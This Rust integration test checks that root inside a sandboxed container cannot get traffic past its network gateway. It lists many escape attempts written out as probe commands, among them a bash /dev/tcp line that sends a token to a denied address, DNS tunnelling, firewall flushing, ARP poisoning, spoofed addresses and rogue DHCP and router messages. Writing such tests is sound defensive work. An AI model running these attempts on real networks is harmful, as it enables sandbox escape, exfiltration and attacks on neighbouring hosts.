//! Attempts by root inside a pixel to get something past its gateway. An
//! attempt has succeeded when something came back, or when anything of it
//! arrived anywhere: outside, on the host, or at a neighbour. Those that a
//! pixel without walls would succeed with are made from one as well, so that
//! an attempt that cannot succeed does not count as a wall.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::process::Child;
use std::sync::{Arc, Mutex};

use crate::support::env::TestEnv;
use crate::support::lab;
use crate::support::wait::eventually;
use crate::support::walls::{BRIDGE, GATEWAY, Place, Walls};
use crate::support::wan::{self, METADATA};

const PROBE: &str = include_str!("support/probe.pl");
const BROADCAST: &str = "ff:ff:ff:ff:ff:ff";

/// Everything an attempt may be aimed at.
struct Targets {
    own: Place,
    neighbour: Place,
    gateway: Place,
    /// The gateway's address outside.
    uplink: String,
    /// The host's bridge: its hardware address, and a port it listens on.
    bridge_mac: String,
    host: String,
    host_port: u16,
    /// The resolver of the neighbour's policy.
    resolver: u16,
    /// An address that a destroyed, unrestricted pixel had.
    former: String,
}

struct Attempt {
    name: &'static str,
    /// Verb and arguments of the probe.
    line: String,
    /// A pixel on the open network succeeds with it.
    open: bool,
}

/// Sees what arrives at an interface, from inside a pixel.
struct Witness {
    child: Child,
    seen: Arc<Mutex<String>>,
}

impl Witness {
    fn at(env: &TestEnv, pixel: &str) -> Self {
        let mut child = env.spawn(["exec", "-u", "root", pixel, "--", "perl", "-", "witness"]);
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(PROBE.as_bytes()).unwrap();
        drop(stdin);
        let stdout = child.stdout.take().unwrap();
        let seen = Arc::new(Mutex::new(String::new()));
        let theirs = seen.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                theirs.lock().unwrap().push_str(&(line + "\n"));
            }
        });
        let witness = Self { child, seen };
        eventually("the witness looks", || witness.saw("witness ready"));
        witness
    }

    fn saw(&self, text: &str) -> bool {
        self.seen.lock().unwrap().to_lowercase().contains(text)
    }
}

impl Drop for Witness {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// What connects to the host.
struct Host {
    port: u16,
    seen: Arc<Mutex<String>>,
}

impl Host {
    fn listen(address: &str) -> Self {
        let listener = TcpListener::bind((address, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(String::new()));
        let theirs = seen.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(1)));
                let mut printed = [0; 200];
                let length = stream.read(&mut printed).unwrap_or(0);
                let printed = String::from_utf8_lossy(&printed[..length]).into_owned();
                theirs.lock().unwrap().push_str(&printed);
                let _ = stream.write_all(b"hello from the host\n");
            }
        });
        Self { port, seen }
    }

    fn saw(&self, text: &str) -> bool {
        self.seen.lock().unwrap().contains(text)
    }
}

fn attempts(to: &Targets) -> Vec<Attempt> {
    let mut all = Vec::new();
    let mut add = |name, line: String, open| all.push(Attempt { name, line, open });
    let (own, neighbour, gateway) = (&to.own, &to.neighbour, &to.gateway);
    let denied = wan::address(20);
    let (allowed, other) = (wan::address(10), wan::address(66));

    // Straight out.
    add("a raw address", format!("tcp {denied} 443"), true);
    add("a raw address, UDP", format!("udp {denied} 4433"), true);
    add(
        "a raw address, QUIC's port",
        format!("udp {denied} 443"),
        true,
    );
    add(
        "an address a neighbour has learned",
        format!("tcp {denied} 80"),
        true,
    );
    add("the clock", format!("udp {denied} 123"), true);
    add("source port 22", format!("tcp {denied} 443 22"), true);
    add("source port 53", format!("udp {denied} 4433 53"), true);
    add("source port 67", format!("udp {denied} 68 67"), true);
    add("source port 68", format!("udp {denied} 4433 68"), true);
    add("in fragments", format!("udp {denied} 4433 0 5000"), true);
    add("an ICMP tunnel", format!("icmp {denied}"), true);
    add("another type of ICMP", format!("icmp {allowed} 13"), true);
    for (name, number) in [
        ("GRE", 47),
        ("ESP", 50),
        ("IP in IP", 4),
        ("SCTP", 132),
        ("a protocol without a name", 253),
    ] {
        add(name, format!("proto {number} {denied}"), true);
    }
    add(
        "a port of an allowed host that is not",
        "tcp 198.51.100.21 80".into(),
        true,
    );

    // Names.
    let dns = |name, line: String, open| Attempt { name, line, open };
    all.extend([
        dns(
            "another resolver",
            format!("dns {other} TOKEN.other.test"),
            true,
        ),
        dns(
            "another resolver, TCP",
            format!("dns {other} TOKEN.other.test A tcp"),
            true,
        ),
        dns(
            "a denied name",
            format!("dns {} other.test", gateway.address),
            false,
        ),
        dns(
            "a denied name of another type",
            format!("dns {} TOKEN.test HTTPS", gateway.address),
            false,
        ),
        dns(
            "a denied name, any type",
            format!("dns {} TOKEN.test ANY", gateway.address),
            false,
        ),
        dns(
            "a label under an allowed name",
            format!("dns {} TOKEN.allowed.test", gateway.address),
            false,
        ),
        dns(
            "the same, TXT",
            format!("dns {} TOKEN.allowed.test TXT", gateway.address),
            false,
        ),
        dns(
            "the same, NULL",
            format!("dns {} TOKEN.allowed.test NULL", gateway.address),
            false,
        ),
        dns(
            "the same, TCP",
            format!("dns {} TOKEN.allowed.test A tcp", gateway.address),
            false,
        ),
        dns(
            "labels of an allowed name",
            format!("dns {} allowed.test.TOKEN.test", gateway.address),
            false,
        ),
        dns(
            "the name server of the internet",
            format!("dns {} TOKEN.test", wan::RESOLVER),
            true,
        ),
        dns(
            "the host's resolver",
            format!("dns {} other.test", to.host),
            false,
        ),
        dns(
            "the gateway's upstream side",
            format!("dns {} other.test", to.uplink),
            false,
        ),
        dns(
            "the neighbour's resolver",
            format!("dns {} other.test A udp {}", gateway.address, to.resolver),
            false,
        ),
        dns(
            "the same, TCP",
            format!("dns {} other.test A tcp {}", gateway.address, to.resolver),
            false,
        ),
        dns("DNS over TLS", format!("tcp {other} 853"), true),
        dns("DNS over HTTPS", format!("tcp {other} 443"), true),
        dns("DNS on another port", format!("udp {other} 65000"), true),
    ]);
    let mut add = |name, line: String, open| all.push(Attempt { name, line, open });

    // The host and what is near it.
    add(
        "the host",
        format!("tcp {} {}", to.host, to.host_port),
        true,
    );
    add(
        "the host's other address",
        format!("tcp {} 80", wan::HOST),
        false,
    );
    add("ping of the host", format!("icmp {}", to.host), true);
    add("the metadata service", format!("tcp {METADATA} 80"), true);
    add(
        "the gateway's address outside",
        format!("tcp {} 22", to.uplink),
        false,
    );
    add(
        "ping of the gateway outside",
        format!("icmp {}", to.uplink),
        false,
    );
    add(
        "SSH to the gateway",
        format!("tcp {} 22", gateway.address),
        false,
    );
    add(
        "ping of the gateway",
        format!("icmp {}", gateway.address),
        false,
    );
    for port in [67, 80, 443, 5355, 8443] {
        add(
            "a port of the gateway",
            format!("tcp {} {port}", gateway.address),
            false,
        );
    }
    let from = |next: &str, mac: &str, source: &str, target: &str| {
        format!("spoof {next} {mac} {source} {target} 4433")
    };
    add(
        "a route by the host's bridge",
        from(&to.bridge_mac, &own.mac, &own.address, &denied.to_string()),
        true,
    );
    add(
        "the same in the host's VLAN",
        format!(
            "tagged {} {} {} {denied} 1",
            to.bridge_mac, own.mac, own.address
        ),
        false,
    );
    add(
        "the host's resolver, by its bridge",
        format!(
            "spoof {} {} {} {} 53",
            to.bridge_mac, own.mac, own.address, to.host
        ),
        false,
    );
    add(
        "the host, by its bridge",
        from(
            &to.bridge_mac,
            &own.mac,
            &own.address,
            &wan::HOST.to_string(),
        ),
        false,
    );
    add(
        "everything to all hosts, by broadcast",
        from(BROADCAST, &own.mac, &own.address, &denied.to_string()),
        false,
    );
    add(
        "the broadcast address",
        "udp 255.255.255.255 4433".into(),
        true,
    );
    add(
        "a broadcast outside",
        "udp 198.51.100.255 4433".into(),
        false,
    );
    add("multicast", "udp 239.1.1.1 4433".into(), true);
    add("multicast DNS", "udp 224.0.0.251 5353".into(), true);

    // With another sender's address. The neighbor may reach `denied`.
    let next = &gateway.mac;
    let target = denied.to_string();
    add(
        "the neighbour's address",
        from(next, &own.mac, &neighbour.address, &target),
        false,
    );
    add(
        "the neighbour's hardware address too",
        from(next, &neighbour.mac, &neighbour.address, &target),
        false,
    );
    add(
        "the gateway's address",
        from(next, &own.mac, &gateway.address, &target),
        false,
    );
    add(
        "the gateway's own hardware address",
        from(next, next, &gateway.address, &target),
        false,
    );
    add(
        "an address without a host",
        from(next, &own.mac, "10.0.0.7", &target),
        false,
    );
    add(
        "an address outside",
        from(next, &own.mac, "198.51.100.77", &target),
        false,
    );
    add(
        "the host's address",
        from(next, &own.mac, &to.host, &target),
        false,
    );
    add(
        "the address of a destroyed pixel",
        from(next, &own.mac, &to.former, &target),
        false,
    );
    add(
        "loopback",
        from(next, &own.mac, "127.0.0.1", &target),
        false,
    );
    let loose = "8307".to_owned() + &hex(&denied.octets()) + "00";
    add(
        "a source route over an allowed host",
        format!(
            "spoof {next} {} {} {allowed} 4433 {loose}",
            own.mac, own.address
        ),
        false,
    );

    // To the neighbour.
    add(
        "the neighbour",
        format!("udp {} 4433", neighbour.address),
        true,
    );
    add(
        "the neighbour by the gateway",
        from(next, &own.mac, &own.address, &neighbour.address),
        false,
    );
    add(
        "the neighbour's own hardware address",
        from(&neighbour.mac, &own.mac, &own.address, &neighbour.address),
        true,
    );
    add(
        "a frame of no protocol",
        format!("frame {} {} 88b5", neighbour.mac, own.mac),
        true,
    );
    add(
        "the same by broadcast",
        format!("frame {BROADCAST} {} 88b5", own.mac),
        true,
    );
    add(
        "a tagged frame",
        format!("frame {} {} 8100 000188b5", neighbour.mac, own.mac),
        true,
    );
    add(
        "ARP poisoning of the neighbour",
        format!(
            "arp {} {} 2 {} {} {} {}",
            neighbour.mac, own.mac, own.mac, gateway.address, neighbour.mac, neighbour.address
        ),
        true,
    );
    add(
        "an ARP request for the neighbour",
        format!(
            "arp {BROADCAST} {} 1 {} {} 00:00:00:00:00:00 {}",
            own.mac, own.mac, own.address, neighbour.address
        ),
        true,
    );
    add(
        "ARP as the gateway",
        format!(
            "arp {BROADCAST} {next} 2 {next} {} {BROADCAST} {}",
            gateway.address, neighbour.address
        ),
        false,
    );
    add(
        "a rogue router",
        format!(
            "frame 33:33:00:00:00:01 {} 86dd 6000000000143aff{}{}8600000040000708",
            own.mac,
            link_local(1),
            "ff020000000000000000000000000001"
        ),
        true,
    );
    add(
        "IPv6 to the neighbour",
        "sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')"
            .into(),
        false,
    );
    add("an IPv6 address of one's own", "sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1".into(), false);

    // DHCP.
    let spare = "02:00:00:00:00:77";
    let dhcp =
        |kind: u8, chaddr: &str, rest: &str| format!("dhcp {} {kind} {chaddr} {rest}", own.mac);
    add("a second lease", dhcp(1, spare, ""), false);
    add("the neighbour's lease", dhcp(1, &neighbour.mac, ""), false);
    add(
        "a lease by another's hardware address",
        format!("dhcp {} 1 {}", neighbour.mac, neighbour.mac),
        false,
    );
    add(
        "declining the neighbour's address",
        dhcp(
            4,
            &neighbour.mac,
            &format!("0.0.0.0 0.0.0.0 0.0.0.0 {}", neighbour.address),
        ),
        false,
    );
    add(
        "an answer sent to the neighbour",
        dhcp(
            8,
            &own.mac,
            &format!("{} {}", own.address, neighbour.address),
        ),
        false,
    );
    add(
        "an answer sent by a relay",
        dhcp(
            1,
            &own.mac,
            &format!("0.0.0.0 0.0.0.0 {}", neighbour.address),
        ),
        false,
    );
    add(
        "a rogue server",
        from(BROADCAST, &own.mac, &own.address, "255.255.255.255").replace("4433", "68"),
        true,
    );

    // With root's tools. Each puts things back.
    let connect = format!(
        "timeout 2 bash -c 'exec 3<>/dev/tcp/{denied}/443 && echo $TOKEN >&3 && head -n 1 <&3'"
    );
    add(
        "a flushed ruleset",
        format!("sh nft flush ruleset; iptables -F; {connect}"),
        true,
    );
    add(
        "a network of one's own",
        format!(
            "sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
             ip addr add {former}/16 dev t-mv; ip route add {denied}/32 via {gw} dev t-mv src {former}; \
             {connect}; code=$?; ip link del t-mv; exit $code",
            former = to.former,
            gw = gateway.address,
        ),
        false,
    );
    add(
        "a nested container",
        format!(
            "sh ip netns add t-ns; in='nsenter --net=/run/netns/t-ns'; \
             ip link add t-in type veth peer name eth0 netns t-ns; \
             ip addr add 192.168.77.1/24 dev t-in; ip link set t-in up; \
             $in ip addr add 192.168.77.2/24 dev eth0; $in ip link set eth0 up; \
             $in ip route add default via 192.168.77.1; echo 1 >/proc/sys/net/ipv4/ip_forward; \
             nft 'add table ip t-nat; add chain ip t-nat p {{ type nat hook postrouting priority 100; }}; \
             add rule ip t-nat p oifname eth0 masquerade'; \
             $in {connect}; code=$?; nft delete table ip t-nat; \
             ip link del t-in; ip netns del t-ns; exit $code"
        ),
        true,
    );
    add(
        "a bridge over the interface",
        format!(
            "sh ip link add t-br type bridge; ip link set t-br up; ip addr add {}/16 dev t-br; \
             ip link set eth0 master t-br; ip route replace {denied}/32 via {} dev t-br; {connect}; code=$?; \
             ip link set eth0 nomaster; ip link del t-br; exit $code",
            to.former, gateway.address
        ),
        false,
    );
    add("the guest API", "sh ls /dev/incus/sock".into(), false);
    add(
        "a device of the host",
        "sh ls /dev/kmsg /dev/mem /dev/sda".into(),
        false,
    );
    all
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn link_local(last: u8) -> String {
    format!("fe80000000000000000000000000{last:04x}")
}

/// Makes all of them and returns those that succeeded, each with how.
fn succeeded(
    walls: &Walls,
    env: &TestEnv,
    pixel: &str,
    to: &Targets,
    attempts: &[Attempt],
    at_neighbour: &Witness,
    host: &Host,
) -> Vec<(&'static str, String)> {
    let tag = std::process::id() % 10_000;
    let token = |number: usize| format!("pxt{tag:04}x{number:03}q");
    let mut script = PROBE.to_owned();
    for (number, attempt) in attempts.iter().enumerate() {
        script.push_str(&format!("{} {}\n", token(number), attempt.line));
    }
    let variable = format!("GATEWAY={}", to.gateway.address);
    let args = [
        "exec", "-u", "root", "-e", &variable, pixel, "--", "perl", "-",
    ];
    let outcome = env.pixels_with(args, script.as_bytes()).ok();
    let reported: Vec<&str> = outcome.stdout.lines().collect();
    assert_eq!(reported.len(), attempts.len(), "{outcome:?}");
    let mut found = Vec::new();
    for ((number, attempt), line) in attempts.iter().enumerate().zip(reported) {
        let token = token(number);
        let rest = line
            .strip_prefix(token.as_str())
            .unwrap_or_else(|| panic!("{line}"));
        let mut ways = Vec::new();
        if let Some(text) = rest.strip_prefix(" got ") {
            ways.push(format!("got {text}"));
        }
        if walls.wan.saw(&token) {
            ways.push("seen outside".into());
        }
        if at_neighbour.saw(&token) {
            ways.push("seen by the neighbour".into());
        }
        if host.saw(&token) {
            ways.push("seen by the host".into());
        }
        if !ways.is_empty() {
            found.push((attempt.name, ways.join(", ")));
        }
    }
    found
}

fn host_address() -> String {
    let network = crate::support::server::Server::shared().get("/1.0/networks/incusbr0");
    let address = network["config"]["ipv4.address"].as_str().unwrap();
    address.split('/').next().unwrap().to_owned()
}

#[test]
#[ignore = "needs Incus"]
fn root_in_pixel_cannot_bypass_gateway() {
    lab::ready();
    let walls = Walls::new("esc");
    walls.wan.name("allowed.test", &[wan::address(10)]);
    walls.wan.name("other.test", &[wan::address(20)]);
    walls.wan.name("ported.test", &[wan::address(21)]);
    let a = walls.create("a", "allowlist", &["allowed.test", "ported.test:443"]);
    let b = walls.create("b", "allowlist", &["other.test"]);
    let d = walls.create("d", "unrestricted", &[]);
    let former = walls.place(&d).address;
    walls.env.pixels(["destroy", "--force", &d]).ok();
    // What is allowed works, and so does the neighbour's.
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.comes_to_reach(&a, "ported.test", 443);
    walls.comes_to_reach(&b, "other.test", 80);

    let host = Host::listen(&host_address());
    let uplink = walls.server.get(&format!("/1.0/instances/{GATEWAY}/state"));
    let uplink = uplink["network"]["eth0"]["addresses"][0]["address"]
        .as_str()
        .unwrap()
        .to_owned();
    let neighbour = walls.place(&b);
    let ports = walls.server.run(
        GATEWAY,
        &[
            "nft",
            "get",
            "element",
            "inet",
            "pixels",
            "resolvers",
            &format!("{{ {} }}", neighbour.address),
        ],
    );
    let resolver = ports
        .lines()
        .find_map(|line| {
            line.split_once(" : ")?
                .1
                .trim_end_matches([' ', '}'])
                .trim()
                .parse()
                .ok()
        })
        .unwrap_or_else(|| panic!("no port in {ports}"));
    let to = Targets {
        own: walls.place(&a),
        neighbour,
        gateway: walls.gateway(),
        uplink,
        bridge_mac: std::fs::read_to_string(format!("/sys/class/net/{BRIDGE}/address"))
            .unwrap()
            .trim()
            .to_owned(),
        host: host_address(),
        host_port: host.port,
        resolver,
        former,
    };
    let all = attempts(&to);
    assert!(all.len() >= 40);
    let witness = Witness::at(&walls.env, &b);
    let found = succeeded(&walls, &walls.env, &a, &to, &all, &witness, &host);
    assert!(found.is_empty(), "{found:#?}");

    // Nothing has harmed the neighbour, or this pixel itself.
    drop(witness);
    walls.comes_to_reach(&b, "other.test", 80);
    walls.comes_to_reach(&a, "allowed.test", 443);
    walls.env.pixels(["stop", &b]).ok();
    walls.env.pixels(["start", &b]).ok();
    eventually("the neighbour has its address", || {
        walls.reaches(&b, "other.test", 80)
    });

    open_pixels_succeed(&walls, &host);
}

/// The same from a pixel without walls.
fn open_pixels_succeed(walls: &Walls, host: &Host) {
    walls.wan.forget();
    let env = walls.open("esco");
    let (a, b) = (env.name("a"), env.name("b"));
    env.pixels(["create", &a]).ok();
    env.pixels(["create", &b]).ok();
    let address = |name: &str| {
        let started = env.pixels(["start", name, "--json"]).ok().json();
        started["ip"].as_str().unwrap().to_owned()
    };
    let place = |name: &str| {
        let found = walls.server.get(&format!("/1.0/instances/px-{name}"));
        Place {
            mac: found["config"]["volatile.eth0.hwaddr"]
                .as_str()
                .unwrap()
                .to_owned(),
            address: address(name),
        }
    };
    let bridge_mac = std::fs::read_to_string("/sys/class/net/incusbr0/address").unwrap();
    let bridge_mac = bridge_mac.trim().to_owned();
    let to = Targets {
        own: place(&a),
        neighbour: place(&b),
        gateway: Place {
            mac: bridge_mac.clone(),
            address: host_address(),
        },
        uplink: host_address(),
        bridge_mac,
        host: host_address(),
        host_port: host.port,
        resolver: 53,
        former: "10.99.99.99".into(),
    };
    let mut all = attempts(&to);
    all.retain(|attempt| attempt.open);
    let witness = Witness::at(&env, &b);
    let found = succeeded(walls, &env, &a, &to, &all, &witness, host);
    let found: BTreeSet<&str> = found.iter().map(|(name, _)| *name).collect();
    let idle: Vec<&str> = all
        .iter()
        .map(|attempt| attempt.name)
        .filter(|name| !found.contains(name))
        .collect();
    assert!(
        idle.is_empty(),
        "these prove nothing, they fail without walls too: {idle:#?}"
    );
}
